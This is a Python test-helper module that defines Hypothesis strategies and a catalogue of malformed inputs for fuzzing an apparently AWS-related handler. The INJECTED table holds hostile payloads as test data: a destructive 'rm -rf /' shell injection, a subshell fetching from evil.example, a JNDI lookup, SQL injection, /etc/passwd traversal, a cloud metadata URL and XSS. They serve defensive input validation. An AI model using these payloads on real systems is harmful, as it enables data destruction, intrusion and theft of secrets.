"""What is sent where it does not belong: injected texts, wrong types, any JSON."""

from __future__ import annotations

from collections.abc import Collection, Mapping
from typing import Any

from hypothesis import settings
from hypothesis import strategies as st

EXAMPLES = settings(max_examples=120)

INJECTED = {
    "shell": "fs-00000001; rm -rf /",
    "subshell": "$(curl evil.example)",
    "backtick": "`id`",
    "sql": "fs-00000001' OR '1'='1",
    "path": "../../etc/passwd",
    "file": "file:///etc/passwd",
    "url": "http://169.254.169.254/latest/meta-data/",
    "format": "%s%s%s%n",
    "braces": "{0.__class__.__mro__}",
    "jinja": "{{7*7}}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "cfn": "{{resolve:secretsmanager:x}}",
    "nul": "fs-00000001\x00",
    "newline": "fs-00000001\n",
    "crlf": "fs-00000001\r\nX: y",
    "escape": "\x1b[31mred",
    "wide digits": "fs-0000000１",  # noqa: RUF001
    "cyrillic": "fs-0000000а",  # noqa: RUF001
    "right to left": "fs-\u202e00000001",
    "lone surrogate": "fs-\ud800",
    "emoji": "💥" * 40,
    "long": "x" * 100_000,
    "long emoji": "💥" * 50_000,
    "upper case": "FS-00000001",
    "spaces": " fs-00000001 ",
    "empty": "",
    "wildcard": "*",
    "html": "<script>alert(1)</script>",
    "quote": '"},"Status":"SUCCESS',
    "backslash": "\\" * 3000,
}
WRONG_TYPES: dict[str, Any] = {
    "none": None,
    "number": 30,
    "float": 1.5,
    "true": True,
    "list": ["x"],
    "nested list": [[["x"]]],
    "mapping": {"x": {"y": "z"}},
    "list of none": [None],
    "empty list": [],
    "empty mapping": {},
    "huge": 10**400,
}

JSON = st.recursive(
    # A text with an exclamation mark is good nowhere; those without stand in INJECTED.
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40).map("{}!".format),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=6,
)


def is_good(good: Mapping[str, Collection[Any]], place: str, value: Any) -> bool:
    """Whether the value is one of the few above that are good at that place: of the same type, too."""
    return any(type(value) is type(known) and value == known for known in good.get(place, ()))
